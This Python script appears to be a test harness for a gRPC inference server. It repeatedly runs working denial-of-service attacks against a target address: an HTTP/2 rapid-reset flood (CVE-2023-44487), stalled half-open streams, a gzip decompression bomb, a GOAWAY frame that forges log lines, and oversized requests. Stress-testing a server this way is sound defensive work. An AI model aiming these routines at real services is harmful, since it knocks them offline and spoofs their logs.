"""Hostile clients: a process, `python hostile_clients.py HOST:PORT SECONDS`, that prints the answers it got.

Each attack comes once a round and cannot be more than one core's work for a moment, so that a server which stands it is
still asked for its valid load.
"""

from __future__ import annotations

import contextlib
import gzip
import itertools
import json
import socket
import struct
import sys
import time
from collections import Counter
from pathlib import Path

import grpc

from nested_sparse.proto import messages

sys.path.insert(0, str(Path(__file__).parents[1]))
from raw_http2 import (
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    METHOD,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    call_headers,
    frame,
    message,
)

PAUSE_S = 1.0
CANCEL = struct.pack(">I", 8)
FORGED = b"\x1b[31mbad\n2026-01-01 00:00:00 ERROR forged: the server is on fire\n"


def many_outputs() -> bytes:
    """Line 4: 100 000 requested outputs, 1 MB."""
    request = messages.ModelInferRequest(model_name="fashion-mnist")
    for index in range(100_000):
        request.outputs.add(name=f"o{index}")
    return request.SerializeToString()


def many_inputs() -> bytes:
    """Line 4: 120 000 inputs."""
    request = messages.ModelInferRequest(model_name="fashion-mnist")
    for index in range(120_000):
        request.inputs.add(name=f"i{index}", datatype="FP32", shape=[1])
    return request.SerializeToString()


def long_name() -> bytes:
    """Line 13: a name that comes back in the error's text."""
    return messages.ModelInferRequest(model_name="x\n" * 10_000).SerializeToString()


@contextlib.contextmanager
def connection(address: str):
    host, port = address.rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=10) as each:
        each.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        yield each


def rapid_resets(address: str, count: int = 2000) -> None:
    """Line 9: streams that are begun and reset at once (CVE-2023-44487)."""
    headers = call_headers(address)
    with connection(address) as each:
        for stream in range(1, 2 * count, 2):
            each.sendall(frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, CANCEL))


def open_streams(address: str, count: int = 2000) -> None:
    """Line 9: streams that are begun, send half a message, and never end."""
    headers = call_headers(address)
    with connection(address) as each:
        for stream in range(1, 2 * count, 2):
            half = message(b"x" * 100, length=100_000)
            each.sendall(frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, 0, stream, half))
        time.sleep(0.5)


def bomb(address: str) -> None:
    """Line 9: a small message that is 64 MB of zeros once it is decompressed."""
    squeezed = gzip.compress(bytes(64 << 20))
    body = struct.pack(">BI", 1, len(squeezed)) + squeezed
    fields = b"\0\x0dgrpc-encoding\x04gzip"
    with connection(address) as each:
        each.sendall(frame(HEADERS, END_HEADERS, 1, call_headers(address) + fields))
        for at in range(0, len(body), 16_000):
            last = at + 16_000 >= len(body)
            each.sendall(frame(DATA, END_STREAM if last else 0, 1, body[at : at + 16_000]))
        each.recv(4096)


def forged_goaway(address: str) -> None:
    """Line 12: a farewell whose text looks like the server's own log."""
    with connection(address) as each:
        each.sendall(frame(GOAWAY, 0, 0, struct.pack(">II", 0, 2) + FORGED))
        time.sleep(0.05)


def main(address: str, seconds: float) -> None:
    """Attack in turn until the time is over."""
    calls = {"many outputs": many_outputs(), "many inputs": many_inputs(), "long name": long_name()}
    raw = {each.__name__: each for each in (rapid_resets, open_streams, bomb, forged_goaway)}
    seen: Counter[str] = Counter()
    end_s = time.monotonic() + seconds
    with grpc.insecure_channel(address) as channel:
        infer = channel.unary_unary(METHOD)
        for name in itertools.cycle([*calls, *raw]):
            if time.monotonic() >= end_s:
                break
            try:
                if name in calls:
                    infer(calls[name], timeout=30)
                else:
                    raw[name](address)
                seen[f"{name}: done"] += 1
            except grpc.RpcError as error:
                seen[f"{name}: {error.code().name}"] += 1
            except OSError as error:
                seen[f"{name}: {type(error).__name__}"] += 1
            time.sleep(PAUSE_S)
    print(json.dumps(seen), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], float(sys.argv[2]))
